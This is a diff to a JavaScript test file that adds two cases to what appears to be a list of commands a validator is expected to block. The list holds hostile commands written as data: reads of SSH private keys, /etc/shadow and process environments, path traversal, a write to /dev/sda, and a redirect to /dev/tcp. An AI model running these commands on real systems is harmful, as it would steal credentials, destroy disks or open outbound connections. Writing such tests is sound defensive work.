@@ -116,6 +116,8 @@ describe('commands', () => {
     ['cat /root/.ssh/id_rsa'],
     ['cat ../../../root/x'],
     ['cat --file=/proc/1/environ'],
+    ['curl file:///root/x'],
+    ['cat //root/x'],
     ['cat < /etc/shadow'],
     ['echo x > /dev/sda'],
     ['echo x > /dev/tcp/1.2.3.4/80'],
